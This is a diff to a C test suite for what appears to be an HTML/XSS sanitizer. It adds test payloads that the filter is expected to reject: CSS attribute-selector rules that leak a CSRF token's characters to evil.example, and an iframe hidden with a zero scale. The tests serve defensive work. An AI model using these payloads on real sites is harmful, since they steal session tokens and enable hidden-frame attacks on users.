@@ -66,7 +66,8 @@ static void kill_run(const char *name, const char *const *t, size_t n)
 
 /* a style sheet of any host but a published library's release or a font
  * service: the sheet reads tokens out of the page by attribute selectors
- * (CSS exfiltration), linked or imported */
+ * (CSS exfiltration), linked or imported; and such a selector written
+ * inline with the URL it fetches on a match */
 static void test_xss_foreign_sheet(void **st)
 {
 	static const char *const t[] = {
@@ -75,6 +76,9 @@ static void test_xss_foreign_sheet(void **st)
 		"<link href='https://a.example/leak.css' rel='stylesheet'>",
 		"<style>@import 'https://evil.example/x.css';</style>",
 		"<style>@import url(https://evil.example/leak.css)</style>",
+		"<style>input[name=csrf][value^=a]{background:url(https://evil.example/?a)}</style>",
+		"<style>input[value$=\"z\"]{background-image:url(//evil.example/z)}</style>",
+		"<style>input[value *= \"9\"] ~ *{list-style:url(/log?9)}</style>",
 	};
 
 	(void)st;
@@ -105,7 +109,6 @@ static void test_xss_dialog_global_ctor(void **st)
 		"alert(JSON)",
 		"prompt(Response)",
 		"alert.call(null, Text)",
-		"confirm(Input)",
 	};
 
 	(void)st;
@@ -124,6 +127,7 @@ static void test_xss_frame_style_hidden(void **st)
 		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 "
 		"style=\"position:fixed; top: -1000px\"></iframe>",
 		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"border:0;width:.5px\"></iframe>",
+		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"transform: scale(0)\"></iframe>",
 	};
 
 	(void)st;
